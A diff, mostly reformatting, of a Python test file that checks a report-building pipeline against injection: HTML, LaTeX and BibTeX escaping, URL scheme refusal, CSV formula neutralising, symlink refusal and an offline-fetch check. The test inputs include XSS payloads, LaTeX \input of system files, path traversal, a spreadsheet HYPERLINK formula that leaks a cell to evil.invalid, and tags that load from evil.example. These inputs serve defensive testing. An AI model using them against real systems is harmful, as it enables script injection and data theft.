@@ -24,14 +24,14 @@ import yaml
 
 from report import escape
 from report.offline import external_addresses, is_external
-
+from report.paths import ROOT  # noqa: E402
 from report.site_tools import served, toc_pages
 
-from report.paths import ROOT  # noqa: E402
 TYPED = "R&D 100% $5 a_b < 5 minutes"
 
 
 # --- the escaping functions --------------------------------------------------------------
+
 
 @pytest.mark.parametrize("text", ["<script>alert(1)</script>", "R&D", '"quoted"', "a\nb"])
 def test_html_text_is_inert(text):
@@ -45,15 +45,21 @@ def test_myst_text_escapes_every_markup_character():
 
 
 def test_latex_text_neutralises_commands():
-    assert escape.latex_text(r"\input{/etc/hostname} 100% $5 a_b") == \
-        r"\textbackslash{}input\{/etc/hostname\} 100\% \$5 a\_b"
+    assert (
+        escape.latex_text(r"\input{/etc/hostname} 100% $5 a_b")
+        == r"\textbackslash{}input\{/etc/hostname\} 100\% \$5 a\_b"
+    )
 
 
 def test_bibtex_text_cannot_close_the_field():
-    assert "{" not in escape.bibtex_text("x}, url = {javascript:alert(1)") and "}" not in escape.bibtex_text("}")
+    assert "{" not in escape.bibtex_text("x}, url = {javascript:alert(1)") and "}" not in escape.bibtex_text(
+        "}"
+    )
 
 
-@pytest.mark.parametrize("address", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "//host/x"])
+@pytest.mark.parametrize(
+    "address", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "//host/x"]
+)
 def test_url_refuses_other_schemes(address):
     with pytest.raises(ValueError):
         escape.url(address)
@@ -71,12 +77,14 @@ def test_tooltip_escapes_each_line_and_keeps_its_own_breaks():
 
 # --- matplotlib reads no data text as math (issue 25, item 2) ------------------------------
 
+
 @pytest.mark.parametrize("item", ["Gerbera decoy drone $\\alpha^$ (unit build cost)", "$10k-$20k"])
 def test_matplotlib_draws_data_text_as_typed(tmp_path, monkeypatch, item):
     """'$\\alpha^$' stopped the build with a notebook traceback; '$10k-$20k' lost its dollar
     signs and turned italic. Here a chart is made as a chapter makes one, in a kernel whose
     math parsing is on (as matplotlib starts), with the text as a tick label, title and legend."""
     import matplotlib
+
     matplotlib.use("Agg")
     import matplotlib.pyplot as plt
     from matplotlib.text import Text
@@ -98,7 +106,9 @@ def test_matplotlib_draws_data_text_as_typed(tmp_path, monkeypatch, item):
             return original(*args, **kwargs)
 
         fig.savefig = save_and_look
-        matplotlib_chart(fig, "hostile-costs", alt="a chart", source="data/costs.csv", data=pd.DataFrame({"item": [item]}))
+        matplotlib_chart(
+            fig, "hostile-costs", alt="a chart", source="data/costs.csv", data=pd.DataFrame({"item": [item]})
+        )
     assert len(texts) >= 3 and all(t._preprocess_math(t.get_text()) == (item, False) for t in texts)
     assert (tmp_path / "hostile-costs.svg").stat().st_size > 0
 
@@ -108,9 +118,21 @@ def test_matplotlib_draws_data_text_as_typed(tmp_path, monkeypatch, item):
 FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")'
 
 
-@pytest.mark.parametrize("cell, published", [
-    (FORMULA, "'" + FORMULA), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("-5", "-5"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-05", "1e-05"), ("Tallinn", "Tallinn")])
+@pytest.mark.parametrize(
+    "cell, published",
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("-5", "-5"),
+        ("-12.5", "-12.5"),
+        ("+3", "+3"),
+        ("1e-05", "1e-05"),
+        ("Tallinn", "Tallinn"),
+    ],
+)
 def test_csv_cells_are_neutralised_the_owasp_way(cell, published):
     assert escape.csv_cell(cell) == published
 
@@ -143,7 +165,9 @@ def test_every_published_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
     rows[1][rows[0].index("notes")] = FORMULA
     with (data / "incidents.csv").open("w", encoding="utf-8", newline="") as handle:
         csv.writer(handle).writerows(rows)
-    (figures / "chart.csv").write_text(f'label,value\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\n@x,3\n', encoding="utf-8")
+    (figures / "chart.csv").write_text(
+        f'label,value\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\n@x,3\n', encoding="utf-8"
+    )
     (figures / "chart.png").write_bytes(b"png")
     copy_downloads(out)
     with zipfile.ZipFile(out / "downloads" / "data-exercise.zip") as archive:
@@ -160,6 +184,7 @@ def test_every_published_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
 
 
 # --- symbolic links are never followed into the site (issue 25, items 8 and 9) -----------
+
 
 @pytest.mark.parametrize("kind", ["file", "folder", "data-file"])
 def test_a_symlink_the_site_would_copy_stops_the_build(tmp_path, monkeypatch, kind):
@@ -185,14 +210,24 @@ def test_a_symlink_the_site_would_copy_stops_the_build(tmp_path, monkeypatch, ki
 
 # --- the offline check -------------------------------------------------------------------
 
-@pytest.mark.parametrize("snippet", [
-    "<img src=https://evil.example/x.png>", '<img src = "//evil.example/x.png">',
-    '<img srcset="a.png 1x, https://evil.example/b.png 2x">', '<object data="https://evil.example/x">',
-    '<embed src="https://evil.example/x">', '<video poster="https://evil.example/p.png">',
-    '<div style="background: url(https://evil.example/x.png)">', "<style>@import 'https://evil.example/x.css';</style>",
-    '<link rel="stylesheet" href="https://evil.example/x.css">', '<form action="https://evil.example/"></form>',
-    '<svg><image xlink:href="https://evil.example/x.svg"/></svg>', '<iframe src="http://evil.example/"></iframe>',
-])
+
+@pytest.mark.parametrize(
+    "snippet",
+    [
+        "<img src=https://evil.example/x.png>",
+        '<img src = "//evil.example/x.png">',
+        '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
+        '<object data="https://evil.example/x">',
+        '<embed src="https://evil.example/x">',
+        '<video poster="https://evil.example/p.png">',
+        '<div style="background: url(https://evil.example/x.png)">',
+        "<style>@import 'https://evil.example/x.css';</style>",
+        '<link rel="stylesheet" href="https://evil.example/x.css">',
+        '<form action="https://evil.example/"></form>',
+        '<svg><image xlink:href="https://evil.example/x.svg"/></svg>',
+        '<iframe src="http://evil.example/"></iframe>',
+    ],
+)
 def test_offline_check_finds_every_way_to_fetch(tmp_path, snippet):
     (tmp_path / "page.html").write_text(f"<html><body>{snippet}</body></html>", encoding="utf-8")
     assert external_addresses(tmp_path), snippet
@@ -201,7 +236,9 @@ def test_offline_check_finds_every_way_to_fetch(tmp_path, snippet):
 def test_offline_check_allows_links_and_local_assets(tmp_path):
     (tmp_path / "page.html").write_text(
         '<a href="https://www.nato.int/">NATO</a><img src="_static/x.png"><img src="data:image/png;base64,AA">'
-        '<link rel="stylesheet" href="_static/x.css">', encoding="utf-8")
+        '<link rel="stylesheet" href="_static/x.css">',
+        encoding="utf-8",
+    )
     (tmp_path / "x.css").write_text("a { background: url(../img/x.png) }", encoding="utf-8")
     assert external_addresses(tmp_path) == []
     assert not is_external("_static/x.js") and is_external("HTTPS://x.org/") and is_external("//x.org/")
@@ -213,12 +250,15 @@ def test_the_built_site_fetches_nothing_from_another_host(site):
 
 # --- the deploy workflow -----------------------------------------------------------------
 
+
 def test_deploy_workflow_is_pinned_and_least_privileged():
     text = (ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8")
     workflow = yaml.safe_load(text)
     uses = re.findall(r"uses:\s*(\S+)(.*)", text)
-    assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", ref) and re.search(r"#\s*v\d", comment)
-                        for ref, comment in uses), uses
+    assert uses and all(
+        re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", ref) and re.search(r"#\s*v\d", comment)
+        for ref, comment in uses
+    ), uses
     assert workflow["permissions"] == {}
     assert workflow["jobs"]["build"]["permissions"] == {"contents": "read"}
     assert set(workflow["jobs"]["deploy"]["permissions"]) == {"pages", "id-token"}
@@ -232,8 +272,9 @@ def test_deploy_workflow_never_hangs_and_never_cancels_a_deploy_under_way():
     A newer push may cancel an older build; a deploy that has started always finishes."""
     workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8"))
     jobs = workflow["jobs"]
-    assert all(0 < job.get("timeout-minutes", 0) <= 120 for job in jobs.values()), \
-        {name: job.get("timeout-minutes") for name, job in jobs.items()}
+    assert all(0 < job.get("timeout-minutes", 0) <= 120 for job in jobs.values()), {
+        name: job.get("timeout-minutes") for name, job in jobs.items()
+    }
     assert "concurrency" not in workflow or workflow["concurrency"].get("cancel-in-progress") is False
     assert jobs["deploy"]["concurrency"]["cancel-in-progress"] is False
     assert jobs["build"]["concurrency"]["group"] != jobs["deploy"]["concurrency"]["group"]
@@ -241,19 +282,27 @@ def test_deploy_workflow_never_hangs_and_never_cancels_a_deploy_under_way():
 
 # --- one build with hostile text in every free-text cell -------------------------------
 
+
 def _payload(canary: Path) -> str:
-    return (f'<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'
-            f"<img src=https://attacker.invalid/p.png> {{download}}`x <../../../../../../..{canary}>` "
-            f"{{download}}`y <{canary}>` :::{{raw}} html <b>raw</b> ::: ```{{raw}} latex \\input{{{canary}}}``` "
-            f"[link](javascript:window.__pwned=1) $x^2$ %comment \\input{{{canary}}} {TYPED}")
+    return (
+        f'<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'
+        f"<img src=https://attacker.invalid/p.png> {{download}}`x <../../../../../../..{canary}>` "
+        f"{{download}}`y <{canary}>` :::{{raw}} html <b>raw</b> ::: ```{{raw}} latex \\input{{{canary}}}``` "
+        f"[link](javascript:window.__pwned=1) $x^2$ %comment \\input{{{canary}}} {TYPED}"
+    )
 
 
 def _free_text_fields(resource: dict) -> list[str]:
     """String columns with no enum or pattern that are not ids or links to other tables."""
     keys = {name for fk in resource["schema"].get("foreignKeys", []) for name in fk["fields"]}
-    return [f["name"] for f in resource["schema"]["fields"]
-            if f.get("type", "string") == "string" and not {"enum", "pattern", "unique"} & set(f.get("constraints", {}))
-            and f["name"] not in keys | {"url"} and not f["name"].endswith(("_id", "_ids"))]
+    return [
+        f["name"]
+        for f in resource["schema"]["fields"]
+        if f.get("type", "string") == "string"
+        and not {"enum", "pattern", "unique"} & set(f.get("constraints", {}))
+        and f["name"] not in keys | {"url"}
+        and not f["name"].endswith(("_id", "_ids"))
+    ]
 
 
 @pytest.fixture(scope="module")
@@ -263,8 +312,13 @@ def hostile_build(tmp_path_factory):
     canary.parent.mkdir()
     canary.write_text("CANARY-4f1d9e-build-machine-secret\n", encoding="utf-8")
     repo = work / "repo"
-    shutil.copytree(ROOT, repo, ignore=shutil.ignore_patterns(
-        ".git", "_build", ".venv", "node_modules", "test-artifacts", "__pycache__", "*.egg-info"))
+    shutil.copytree(
+        ROOT,
+        repo,
+        ignore=shutil.ignore_patterns(
+            ".git", "_build", ".venv", "node_modules", "test-artifacts", "__pycache__", "*.egg-info"
+        ),
+    )
     (repo / "node_modules").symlink_to(ROOT / "node_modules")
     package = json.loads((repo / "data" / "datapackage.json").read_text(encoding="utf-8"))
     payload = _payload(canary)
@@ -282,12 +336,24 @@ def hostile_build(tmp_path_factory):
                 row[url_column] += '?q=)"}{\\input{' + str(canary) + "}}<img/src=x/onerror=window.__pwned=1>"
         with path.open("w", encoding="utf-8", newline="") as handle:
             csv.writer(handle).writerows(rows)
-    env = {**os.environ, "PYTHONPATH": str(repo), "REPORT_DATA_DIR": str(repo / "data"),
-           "REPORT_FIGURES_DIR": str(repo / "figures")}
-    bib = subprocess.run([sys.executable, "-m", "report.bib"], cwd=repo, env=env, capture_output=True, text=True)
+    env = {
+        **os.environ,
+        "PYTHONPATH": str(repo),
+        "REPORT_DATA_DIR": str(repo / "data"),
+        "REPORT_FIGURES_DIR": str(repo / "figures"),
+    }
+    bib = subprocess.run(
+        [sys.executable, "-m", "report.bib"], cwd=repo, env=env, capture_output=True, text=True
+    )
     assert bib.returncode == 0, bib.stderr[-3000:]
-    result = subprocess.run([sys.executable, str(repo / "scripts" / "build_book.py")], cwd=repo, env=env,
-                            capture_output=True, text=True, timeout=1500)
+    result = subprocess.run(
+        [sys.executable, str(repo / "scripts" / "build_book.py")],
+        cwd=repo,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=1500,
+    )
     assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-5000:]
     return repo, canary
 
@@ -304,11 +370,19 @@ def test_no_file_from_outside_the_repository_reaches_the_book(hostile_build):
     sys.path.insert(0, str(ROOT / "scripts"))
     from build_book import PACK_NAMES
 
-    pdfs = [site / "book.pdf", site / "appendix.pdf", repo / "_build" / "pdf" / "book.pdf",
-            repo / "_build" / "pdf" / "appendix.pdf"] + [site / "packs" / f"{name}.pdf" for name in PACK_NAMES]
-    assert sorted(p.name for p in site.rglob("*.pdf")) == sorted({p.name for p in pdfs}), "a PDF is not checked"
+    pdfs = [
+        site / "book.pdf",
+        site / "appendix.pdf",
+        repo / "_build" / "pdf" / "book.pdf",
+        repo / "_build" / "pdf" / "appendix.pdf",
+    ] + [site / "packs" / f"{name}.pdf" for name in PACK_NAMES]
+    assert sorted(p.name for p in site.rglob("*.pdf")) == sorted({p.name for p in pdfs}), (
+        "a PDF is not checked"
+    )
     for path in pdfs:
-        pdf_text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
+        pdf_text = subprocess.run(
+            ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
+        ).stdout
         assert secret not in pdf_text, path.name
         assert len(pdf_text) > 500, path.name
         if path.name in ("book.pdf", "appendix.pdf"):
@@ -358,23 +432,41 @@ def test_hostile_text_runs_nothing_and_fetches_nothing_in_the_browser(hostile_bu
 
 # --- stale builds and offline rebuilds ---------------------------------------------------
 
+
 def test_stored_outputs_are_refused_after_a_data_change(tmp_path):
     data = tmp_path / "data"
     shutil.copytree(ROOT / "data", data)
     path = data / "glossary.csv"
-    path.write_text(path.read_text(encoding="utf-8").replace("Article 4", "Article Four", 1), encoding="utf-8")
-    result = subprocess.run([sys.executable, str(ROOT / "scripts" / "build_book.py"), "--stored-outputs"],
-                            env={**os.environ, "REPORT_DATA_DIR": str(data)}, capture_output=True, text=True, timeout=120)
+    path.write_text(
+        path.read_text(encoding="utf-8").replace("Article 4", "Article Four", 1), encoding="utf-8"
+    )
+    result = subprocess.run(
+        [sys.executable, str(ROOT / "scripts" / "build_book.py"), "--stored-outputs"],
+        env={**os.environ, "REPORT_DATA_DIR": str(data)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode != 0
     assert "stored outputs predate" in result.stderr and "execute_notebooks.py" in result.stderr
 
 
 def _notebook(*cells: tuple[str, str]) -> dict:
-    return {"cells": [{"id": f"cell-{index}", "cell_type": kind, "source": source, "metadata": {},
-                       **({"outputs": [], "execution_count": None} if kind == "code" else {})}
-                      for index, (kind, source) in enumerate(cells)],
-            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
-            "nbformat": 4, "nbformat_minor": 5}
+    return {
+        "cells": [
+            {
+                "id": f"cell-{index}",
+                "cell_type": kind,
+                "source": source,
+                "metadata": {},
+                **({"outputs": [], "execution_count": None} if kind == "code" else {}),
+            }
+            for index, (kind, source) in enumerate(cells)
+        ],
+        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
 
 
 def test_stored_outputs_are_refused_after_a_change_to_the_notebooks_own_code(tmp_path, monkeypatch):
@@ -389,7 +481,9 @@ def test_stored_outputs_are_refused_after_a_change_to_the_notebooks_own_code(tmp
 
     chapter = tmp_path / "chapters" / "10_chart.ipynb"
     chapter.parent.mkdir()
-    chapter.write_text(json.dumps(_notebook(("markdown", "# Chart"), ("code", "title = 'Drones in September'"))))
+    chapter.write_text(
+        json.dumps(_notebook(("markdown", "# Chart"), ("code", "title = 'Drones in September'")))
+    )
     monkeypatch.setattr(paths, "toc_notebooks", lambda: [chapter])
     monkeypatch.setattr(build_book, "ROOT", tmp_path)
     monkeypatch.setattr(execute_notebooks, "ROOT", tmp_path)
@@ -404,9 +498,12 @@ def test_stored_outputs_are_refused_after_a_change_to_the_notebooks_own_code(tmp
         monkeypatch.setattr(paths, "toc_notebooks", lambda: [edited_path])
         return build_book.stale_notebooks()
 
-    assert edited(lambda cells: cells[1].update(source="title = 'Drones in October'")) == ["chapters/edited.ipynb"]
-    assert edited(lambda cells: cells.append(_notebook(("code", "raise ValueError"))["cells"][0])) == \
-        ["chapters/edited.ipynb"]
+    assert edited(lambda cells: cells[1].update(source="title = 'Drones in October'")) == [
+        "chapters/edited.ipynb"
+    ]
+    assert edited(lambda cells: cells.append(_notebook(("code", "raise ValueError"))["cells"][0])) == [
+        "chapters/edited.ipynb"
+    ]
     assert edited(lambda cells: cells[0].update(source="# A chart")) == []  # prose needs no execution
     monkeypatch.setattr(paths, "toc_notebooks", lambda: [chapter])
     content = json.loads(chapter.read_text(encoding="utf-8"))
@@ -427,22 +524,33 @@ def test_a_symlink_among_the_build_inputs_stops_the_build_before_reading(tmp_pat
     (figures / "outside").symlink_to("/etc")
     monkeypatch.setenv("REPORT_FIGURES_DIR", str(figures))
     assert set(build_book.symlinks_in_inputs()) >= {figures / "passwd.png", figures / "outside"}
-    result = subprocess.run([sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
-                            env={**os.environ, "REPORT_FIGURES_DIR": str(figures)}, capture_output=True, text=True,
-                            timeout=120)
+    result = subprocess.run(
+        [sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
+        env={**os.environ, "REPORT_FIGURES_DIR": str(figures)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 1
-    assert result.stderr.startswith("build failed: symbolic links") and "passwd.png -> /etc/passwd" in result.stderr
+    assert (
+        result.stderr.startswith("build failed: symbolic links")
+        and "passwd.png -> /etc/passwd" in result.stderr
+    )
     assert "root:" not in result.stdout + result.stderr
 
 
 def test_the_stored_notebooks_were_executed_with_the_current_inputs():
     sys.path.insert(0, str(ROOT / "scripts"))
     from build_book import stale_notebooks
-    assert stale_notebooks() == [], "run `.venv/bin/python scripts/execute_notebooks.py` and commit the notebooks"
+
+    assert stale_notebooks() == [], (
+        "run `.venv/bin/python scripts/execute_notebooks.py` and commit the notebooks"
+    )
 
 
 def test_notebooks_carry_no_volatile_execution_metadata():
     from report.paths import toc_notebooks
+
     for notebook in toc_notebooks():
         cells = json.loads(notebook.read_text(encoding="utf-8"))["cells"]
         assert not any("execution" in cell.get("metadata", {}) for cell in cells), notebook.name
@@ -454,8 +562,12 @@ def test_a_rebuild_with_nothing_changed_never_calls_the_registry(tmp_path):
     fake.mkdir()
     (fake / "npm").write_text("#!/bin/sh\necho 'npm was called' >&2\nexit 1\n")
     (fake / "npm").chmod(0o755)
-    result = subprocess.run(["bash", "-c", f"source {ROOT / 'scripts' / 'setup.sh'} && echo ready"],
-                            env={**os.environ, "PATH": f"{fake}:{os.environ['PATH']}"},
-                            capture_output=True, text=True, timeout=120)
+    result = subprocess.run(
+        ["bash", "-c", f"source {ROOT / 'scripts' / 'setup.sh'} && echo ready"],
+        env={**os.environ, "PATH": f"{fake}:{os.environ['PATH']}"},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 0 and "ready" in result.stdout, result.stderr[-2000:]
     assert "npm was called" not in result.stderr
